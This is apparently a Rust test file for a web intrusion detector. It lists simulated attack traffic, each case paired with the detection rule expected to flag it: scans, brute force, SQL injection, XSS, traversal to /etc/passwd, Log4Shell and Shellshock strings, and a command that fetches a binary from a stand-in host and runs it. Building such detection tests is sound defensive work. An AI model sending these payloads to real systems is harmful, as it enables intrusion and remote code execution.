//! What attackers do, each with the scenario that must name it. Unless a tool is
//! meant to be known by its name, it comes with a browser's headers.

use super::Case;

type Attack = (&'static str, &'static str, Case);

pub(super) fn cases() -> Vec<Attack> {
    let mut cases = scans();
    cases.extend(fingerprints());
    cases.extend(guesses());
    cases.extend(injections());
    cases.extend(floods());
    cases
}

/// Words as they stand in every list for finding folders.
const WORDS: [&str; 24] = [
    "admin",
    "backup",
    "test",
    "images",
    "old",
    "new",
    "tmp",
    "data",
    "login2",
    "private",
    "secret",
    "files",
    "upload",
    "downloads",
    "dev",
    "staging",
    "beta",
    "api2",
    "console",
    "portal",
    "shop",
    "blog2",
    "forum",
    "wiki2",
];

/// A word list, worked off.
fn list(status: u16) -> Case {
    Case::default().times(10, |case, round| {
        WORDS.iter().fold(case, |case, word| {
            case.get(0.02, format!("/{word}{round}"), status)
        })
    })
}

/// What a scanner for known files asks for first.
fn nikto(agent: &str) -> Case {
    [
        "/.git/config",
        "/.env",
        "/server-status",
        "/phpinfo.php",
        "/.htpasswd",
        "/backup.zip",
        "/.svn/entries",
        "/wp-config.php.bak",
        "/cgi-bin/test.cgi",
        "/phpmyadmin/",
        "/manager/html",
        "/.DS_Store",
    ]
    .into_iter()
    .fold(Case::agent(agent), |case, path| case.get(0.3, path, 404))
}

fn fingerprints() -> Vec<Attack> {
    vec![(
        "a list of names that tell systems apart, as a browser asks",
        "ringwall/http-admin-probing",
        [
            "index.php",
            "search.php",
            "cron.php",
            "login.php",
            "xmlrpc.php",
            "LICENSE.txt",
            "install.php",
            "profile.php",
            "register.php",
            "CHANGELOG.txt",
            "UPGRADE.txt",
            "INSTALL.pgsql.txt",
            "MAINTAINERS.txt",
            "INSTALL.mysql.txt",
        ]
        .into_iter()
        .fold(Case::default(), |case, name| {
            case.get(0.2, format!("/{name}"), 404)
        }),
    )]
}

fn scans() -> Vec<Attack> {
    vec![
        (
            "gobuster with a browser's name",
            "ringwall/http-probing",
            list(404),
        ),
        (
            "gobuster where everything is forbidden",
            "ringwall/http-probing",
            list(403),
        ),
        (
            "gobuster where everything wants a password",
            "ringwall/http-auth-probing",
            list(401),
        ),
        (
            "gobuster with a referer",
            "ringwall/http-probing-referred",
            Case {
                visits: list(404)
                    .referer("https://www.example.org/")
                    .visits
                    .into_iter()
                    .map(|mut visit| {
                        visit.referer = "https://www.example.org/";
                        visit
                    })
                    .collect(),
                ..Case::default()
            },
        ),
        (
            "gobuster under its own name",
            "ringwall/http-attack-tool",
            Case::agent("gobuster/3.8").get(0.0, "/admin", 404),
        ),
        (
            "nikto under its own name",
            "ringwall/http-attack-tool",
            nikto("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"),
        ),
        (
            "nikto with a browser's name",
            "ringwall/http-sensitive-files",
            nikto(super::BROWSER),
        ),
        (
            "a search for secrets on a site that says 200 to everything",
            "ringwall/http-sensitive-files",
            Case::default()
                .get(0.0, "/.env", 200)
                .get(0.5, "/.aws/credentials", 200)
                .get(0.5, "/.git/config", 200)
                .get(0.5, "/backup.sql", 200),
        ),
        (
            "a search for web shells",
            "ringwall/http-backdoors",
            Case::default()
                .get(0.0, "/wso.php", 404)
                .get(0.5, "/uploads/c99.php", 404)
                .get(0.5, "/ALFA.php", 404),
        ),
        (
            "a search for consoles",
            "ringwall/http-admin-probing",
            Case::default()
                .get(0.0, "/phpmyadmin/", 404)
                .get(0.5, "/adminer.php", 404)
                .get(0.5, "/manager/html", 404)
                .get(0.5, "/solr/admin/", 403)
                .get(0.5, "/cgi-bin/luci", 404),
        ),
    ]
}

fn guesses() -> Vec<Attack> {
    vec![
        (
            "hydra at a form that says 200 either way",
            "ringwall/http-form-bruteforce",
            Case::default().times(60, |case, _| {
                case.get(0.05, "/login", 200).post(0.05, "/login", 200)
            }),
        ),
        (
            "hydra at a form that redirects",
            "ringwall/http-form-bruteforce",
            Case::default().times(40, |case, _| {
                case.post(0.1, "/account/sign_in", 302)
                    .get(0.05, "/account/sign_in?failed=1", 200)
            }),
        ),
        (
            "hydra at a form that answers 303",
            "ringwall/http-form-bruteforce",
            Case::default().times(40, |case, _| case.post(0.1, "/user/login.php", 303)),
        ),
        (
            "WordPress logins",
            "ringwall/http-form-bruteforce",
            Case::default().times(40, |case, _| case.post(0.4, "/wp-login.php", 200)),
        ),
        (
            "WordPress by XML-RPC",
            "ringwall/http-form-bruteforce",
            Case::default().times(40, |case, _| case.post(0.4, "/xmlrpc.php", 200)),
        ),
        (
            "DokuWiki logins",
            "ringwall/http-form-bruteforce",
            Case::default().times(40, |case, _| {
                case.post(0.4, "/doku.php?id=start&do=login", 200)
            }),
        ),
        (
            "a guesser who loads a picture between two guesses",
            "ringwall/http-form-bruteforce-slow",
            Case::default().times(120, |case, _| {
                case.post(2.0, "/login", 200)
                    .get(0.1, "/static/logo.png", 200)
            }),
        ),
        (
            "a slow guesser",
            "ringwall/http-form-bruteforce-slow",
            Case::default().times(120, |case, _| case.post(7.0, "/login", 200)),
        ),
        (
            "hydra at a form of another name",
            "ringwall/http-form-flood",
            Case::default().times(300, |case, _| {
                case.get(0.02, "/members.php", 200)
                    .post(0.02, "/members.php", 200)
            }),
        ),
        (
            "hydra under its own name",
            "ringwall/http-attack-tool",
            Case::agent("Mozilla/5.0 (Hydra)").post(0.0, "/login", 200),
        ),
        (
            "an interface that says 401",
            "ringwall/http-login-bruteforce",
            Case::default().times(20, |case, _| case.post(0.5, "/api/auth/login", 401)),
        ),
        (
            "a login that says 403",
            "ringwall/http-login-bruteforce",
            Case::default().times(20, |case, _| case.post(0.5, "/signin", 403)),
        ),
        (
            "a password on a folder",
            "ringwall/http-auth-bruteforce",
            passwords(|_| "/private/".to_owned()),
        ),
        (
            "a password on many folders",
            "ringwall/http-auth-spraying",
            passwords(|guess| format!("/private/{guess}")),
        ),
    ]
}

/// A password a third of a second, each another one.
fn passwords(path: impl Fn(u64) -> String) -> Case {
    (1..=120).fold(Case::default(), |case, guess| {
        case.password(guess).get(0.3, path(guess), 401)
    })
}

fn injections() -> Vec<Attack> {
    vec![
        ("sqlmap under its own name", "ringwall/http-attack-tool", Case::agent("sqlmap/1.9.6#stable (https://sqlmap.org)").get(0.0, "/item?id=1", 200)),
        ("sqlmap with a browser's name", "ringwall/http-sql-injection", [
            "1%29%20AND%204372%3D2389%20AND%20%285317%3D5317",
            "1%20AND%205108%3D5108",
            "1%27%20AND%20%27abcd%27%3D%27abcd",
            "%28SELECT%20CONCAT%280x717a7a6a71%2C%28SELECT%20%28ELT%281%3D1%2C1%29%29%29%29%29",
            "1%20AND%20EXTRACTVALUE%288551%2CCONCAT%280x5c%2C0x7171%29%29",
            "1%3BSELECT%20PG_SLEEP%285%29--",
            "1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
            "1%20ORDER%20BY%204--%20-",
        ].into_iter().fold(Case::default(), |case, probe| case.get(0.3, format!("/item?id={probe}"), 200))),
        ("injection hidden behind a second question mark", "ringwall/http-sql-injection", Case::default().times(8, |case, round| {
            case.get(0.3, format!("/item?id=1'+UNION+SELECT+{round},2?"), 200)
        })),
        ("injection hidden behind a broken escape", "ringwall/http-sql-injection", Case::default().times(8, |case, round| {
            case.get(0.3, format!("/item?x=%zz&id=1'/**/UNION/**/SELECT/**/{round}"), 200)
        })),
        ("script probes", "ringwall/http-xss", [
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            "%3Csvg/onload=alert(1)%3E",
            "javascript:alert(document.cookie)",
            "%3Ciframe%20src=javascript:alert(1)%3E",
            "%27%3E%3Cbody%20onload=prompt(1)%3E",
            "<details+open+ontoggle=confirm(1)>",
        ].into_iter().fold(Case::default(), |case, probe| case.get(0.4, format!("/search?q={probe}"), 200))),
        ("commands broken into a value", "ringwall/http-command-injection", [
            "%3Benv%3B",
            "a%29%3Bid%20%3B",
            "1%0Aenv%3B",
            "%26set%26",
            "%7Cwhoami",
            "a%60sleep+60%60",
            "$(cat%20/etc/issue)",
        ].into_iter().fold(Case::default(), |case, probe| case.get(0.4, format!("/item?id={probe}"), 200))),
        ("pieces of program broken into a value", "ringwall/http-command-injection", [
            "a%3Bexit%28md5%28%27x%27%29%29%3B%2F%2F",
            "%27.exit%28md5%28%27x%27%29%29%3B%23",
            "%22%3Bsystem%28%27id%27%29%3B%23",
            "%7B%7B7*7%7D%7D",
            "$%7B7*7%7D",
            "data%3A%3Bbase64%2CPD9waHA%3D",
        ].into_iter().fold(Case::default(), |case, probe| case.get(0.4, format!("/item?id={probe}"), 500))),
        ("commands hidden behind a broken escape", "ringwall/http-command-injection", Case::default().times(8, |case, round| {
            case.get(0.3, format!("/item?x=%zz&id=;sleep+{round};"), 200)
        }).times(8, |case, round| case.get(0.3, format!("/item?x=%zz&id=;id;{round}"), 200))),
        ("ways out of the document root", "ringwall/http-path-traversal", [
            "/download?file=../../../../etc/passwd",
            "/download?file=..%2f..%2f..%2fetc%2fshadow",
            "/static/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
            "/download?file=....//....//etc/hosts",
        ].into_iter().fold(Case::default(), |case, path| case.get(0.5, path, 400))),
        // Backslashes and quotes as they stand in a log, and so in an event.
        ("ways out with backslashes", "ringwall/http-path-traversal", [
            r"/download?file=..\x5C..\x5C..\x5Cwindows\x5Cwin.ini",
            r"/..\x5C..\x5Cboot.ini",
            r"/static/..\..\windows\win.ini",
        ].into_iter().fold(Case::default(), |case, path| case.get(0.5, path, 400))),
        ("injection between bare quotes", "ringwall/http-sql-injection", Case::default().times(8, |case, round| {
            case.get(0.3, format!(r"/item?id={round}\x22%20or%20\x221\x22=\x221"), 200)
        })),
        ("ThinkPHP with bare backslashes", "ringwall/http-exploit", Case::default().get(0.0, r"/?s=/index/\x5Cthink\x5Capp/invokefunction&function=phpinfo", 200)),
        ("a file read through a wrapper", "ringwall/http-path-traversal", [
            "/index.php?page=php://filter/convert.base64-encode/resource=index",
            "/index.php?page=../../../../proc/self/environ",
            "/index.php?page=%252e%252e%252fetc%252fpasswd",
        ].into_iter().fold(Case::default(), |case, path| case.get(0.5, path, 200))),
        ("Log4Shell in the path", "ringwall/http-exploit", Case::default().get(0.0, "/?x=${jndi:ldap://192.0.2.9:1389/a}", 200)),
        ("Log4Shell, disguised", "ringwall/http-exploit", Case::default().get(0.0, "/?x=$%7Bjndi:ldap://192.0.2.9/a%7D", 404)),
        ("Log4Shell in the agent", "ringwall/http-exploit", Case::agent("${jndi:ldap://192.0.2.9/a}").get(0.0, "/", 200)),
        ("Shellshock in the agent", "ringwall/http-exploit", Case::agent("() { :; }; /bin/bash -c 'id'").get(0.0, "/cgi-bin/status", 404)),
        ("PHPUnit", "ringwall/http-exploit", Case::default().post(0.0, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404)),
        ("Apache 2.4.49", "ringwall/http-exploit", Case::default().get(0.0, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400)),
        ("ThinkPHP", "ringwall/http-exploit", Case::default().get(0.0, "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5", 404)),
        ("a router's ping form", "ringwall/http-exploit", Case::default().post(0.0, "/GponForm/diag_Form?images/", 404)),
        ("a shell command in a query", "ringwall/http-exploit", Case::default().get(0.0, "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/mips;sh+/tmp/mips", 404)),
    ]
}

fn floods() -> Vec<Attack> {
    vec![
        (
            "a crawler with a browser's name",
            "ringwall/http-crawl",
            Case::default().times(150, |case, page| {
                case.get(0.1, format!("/article/{page}"), 200)
            }),
        ),
        (
            "a crawler with a library's name",
            "ringwall/http-crawl",
            Case::agent("python-requests/2.32").times(150, |case, page| {
                case.get(0.2, format!("/shop/item-{page}.html"), 200)
            }),
        ),
        (
            "a crawler that takes the pictures along",
            "ringwall/http-crawl-whole",
            Case::default().times(800, |case, page| {
                case.get(0.05, format!("/article/{page}"), 200).get(
                    0.02,
                    format!("/uploads/{page}.jpg"),
                    200,
                )
            }),
        ),
        (
            "a page with ever new queries",
            "ringwall/http-dos-random-query",
            Case::default().times(400, |case, round| {
                case.get(0.02, format!("/?{:x}", 7919 * round), 200)
            }),
        ),
        (
            "ever new pages",
            "ringwall/http-dos-random-path",
            Case::default().times(600, |case, round| {
                case.get(0.01, format!("/{:x}", 104_729 * round), 200)
            }),
        ),
        (
            "ever new names",
            "ringwall/http-dos-changing-agent",
            Case::default().times(120, |case, round| {
                case.with_agent(&format!("Mozilla/5.0 (Windows NT {round}.0)"))
                    .get(0.05, "/", 200)
            }),
        ),
    ]
}
